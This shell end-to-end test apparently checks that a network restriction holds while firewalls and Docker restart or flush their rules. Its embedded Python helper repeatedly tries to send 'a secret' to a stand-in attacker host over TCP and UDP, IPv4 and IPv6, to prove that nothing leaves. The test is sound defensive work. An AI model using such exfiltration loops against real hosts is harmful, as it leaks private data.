#!/bin/sh
# Others' firewalls start, reload, flush and stop, and an agent that tries all the while gets nothing out.
# machines: none
# machines by hand: bookworm trixie true
# flavour: net
# timeout: 1800
. /opt/e2e/lib.sh
. /opt/e2e/tests/internet/up.sh
backends="nft iptables"
pause=0
# An emulated machine is slow: one is enough there, and the others need the processor as well.
[ ! -e /dev/vda ] || backends=nft pause=0.005
ok as alice au new -y
internet_up
cat >/run/internet/try.py <<'PYTHON'
# try.py SECONDS: tries to reach the attacker over and over, with so long between, over TCP and UDP, IPv4 and IPv6, until /run/internet/stop is there; says how often.
import itertools, os, socket, sys, threading, time
enough = threading.Event()

def divert():
    """One that is diverted, and closed with much still to send. It may have to wait, which the others shall not."""
    while not enough.wait(0.2):
        with socket.socket() as s:
            s.settimeout(1)
            try:
                s.connect(("203.0.113.66", 9))
                s.setblocking(False)
                while True: s.send(b"a secret" * 1000)
            except OSError: pass

threading.Thread(target=divert).start()
tried, last, longest = 0, time.monotonic(), 0
print("trying", flush=True)
for host, kind in itertools.cycle((h, k) for h in ("203.0.113.66", "2001:db8:2::66") for k in (socket.SOCK_STREAM, socket.SOCK_DGRAM)):
    if tried % 20 == 0 and os.path.exists("/run/internet/stop"): break
    tried += 1
    with socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, kind) as s:
        s.setblocking(False)
        try:
            s.connect((host, 9))
            s.send(b"a secret")
        except OSError: pass
    time.sleep(float(sys.argv[1]))
    longest = max(longest, time.monotonic() - last)
    last = time.monotonic()
enough.set()
print(f"{tried} tries, at most {1000 * longest:.0f} ms apart")
PYTHON
chmod 755 /run/internet /run/internet/try.py

# while_trying WHAT COMMAND…: runs COMMAND while the agent tries; says how many packets left, and whether the rules are there afterwards.
while_trying() {
	what=$1
	shift
	rm -f /run/internet/stop /run/internet/tried
	: >/run/internet/wire
	agent python3 /run/internet/try.py $pause >/run/internet/tried 2>&1 &
	trying=$!
	soon grep -q trying /run/internet/tried
	sleep 0.5
	before=$(on_wire)
	e2e_run "$@"
	changed=$e2e_status
	sleep 3
	kill -0 $trying || fail "the agent does not try any more: $(cat /run/internet/tried)"
	: >/run/internet/stop
	wait $trying
	left=$(($(on_wire) - before))
	cp /run/internet/wire /run/internet/wire.trying
	echo "$backend: $what: $(tail -n 1 /run/internet/tried), $left packets left"
	e2e_status=$changed
	[ "$changed" = 0 ] || fail "$what does not work here"
	: >/run/internet/wire
	untouched agent curl -sS --max-time 5 -k https://203.0.113.66/
	[ "$e2e_status" != 0 ] || fail "after $what the agent reached the attacker"
	ok agent sh -c 'curl -4 -sS --max-time 20 https://allowed.test/ && curl -6 -sS --max-time 20 https://allowed.test/'
}

# keeps WHAT COMMAND…: nothing leaves while COMMAND runs, nor after.
keeps() {
	promise="with $backend: while $1 nothing leaves"
	while_trying "$@"
	[ "$left" = 0 ] || fail "$left packets left the machine:
$(head -n 20 /run/internet/wire.trying)"
}

docker_up() { systemctl start containerd.service && timeout 900 dockerd --storage-driver=vfs --iptables=true --data-root=/run/docker-data >/run/dockerd.log 2>&1 & soon sh -c 'iptables -S | grep -q DOCKER'; }

printf '*filter\n:INPUT ACCEPT [0:0]\n:FORWARD ACCEPT [0:0]\n:OUTPUT ACCEPT [0:0]\n-A OUTPUT -j ACCEPT\nCOMMIT\n*nat\n:OUTPUT ACCEPT [0:0]\nCOMMIT\n*mangle\n:POSTROUTING ACCEPT [0:0]\nCOMMIT\n*raw\n:OUTPUT ACCEPT [0:0]\nCOMMIT\n' >/run/theirs
backend=none
promise="an agent that tries is seen"
rm -f /run/internet/stop /run/internet/tried
before=$(on_wire)
agent python3 /run/internet/try.py $pause >/run/internet/tried 2>&1 &
soon grep -q trying /run/internet/tried
sleep 1
: >/run/internet/stop
wait $!
[ "$(on_wire)" -gt $((before + 20)) ] || fail "an agent that is not restricted gets next to nothing out, so that this would show nothing"

# firewalld before 2.0 refuses what is diverted over IPv6 (docs/network.md), unless it is told not to.
case $(firewall-offline-cmd --version 2>/dev/null) in
1.* | 0.*)
	promise="an old firewalld lets the agent have IPv4 alone, and nothing out"
	ok as alice au net restrict --allow allowed.test
	ok systemctl start firewalld.service
	sleep 3
	before=$(on_wire)
	for _ in 1 2 3; do e2e_run agent curl -6 -sS --max-time 10 https://allowed.test/; done
	[ "$e2e_status" != 0 ] || fail "this firewalld refuses nothing over IPv6, and docs/network.md says that it does"
	[ "$(on_wire)" = "$before" ] || fail "packets left the machine"
	ok agent curl -sS --max-time 20 https://allowed.test/
	ok as alice au net status --verify
	says "TCP to [2001:db8::1]:443: refused at once"
	ok systemctl stop firewalld.service
	ok as alice au net off
	sed -i 's/^RFC3964_IPv4=yes/RFC3964_IPv4=no/' /etc/firewalld/firewalld.conf
	;;
esac

for backend in $backends; do
	ok as alice au net restrict --backend $backend --allow allowed.test
	if command -v firewall-cmd >/dev/null; then
		keeps "firewalld starts" systemctl start firewalld.service
		keeps "firewalld reloads" firewall-cmd --reload
		keeps "firewalld reloads all" firewall-cmd --complete-reload
		keeps "firewalld stops" systemctl stop firewalld.service
	fi
	if command -v ufw >/dev/null; then
		keeps "ufw is enabled" ufw --force enable
		keeps "ufw reloads" ufw reload
		keeps "ufw is disabled" ufw disable
		keeps "ufw is reset" ufw --force reset
	fi
	if command -v dockerd >/dev/null; then
		keeps "Docker starts" docker_up
		keeps "Docker stops" sh -c 'kill "$(cat /run/docker.pid)"; sleep 2'
		iptables -F FORWARD
	fi
	keeps "iptables-restore takes all of iptables' away" sh -c 'iptables-restore /run/theirs; ip6tables-restore /run/theirs'
	keeps "nftables.service starts anew" systemctl restart nftables.service
	keeps "nft flushes the ruleset" nft flush ruleset
	keeps "the rules are flushed ten times" sh -c 'for i in 1 2 3 4 5 6 7 8 9 10; do nft flush ruleset; sleep 0.1; done'
	keeps "iptables flushes its tables" sh -c 'for t in filter mangle raw nat; do iptables -t $t -F; ip6tables -t $t -F; done'
done
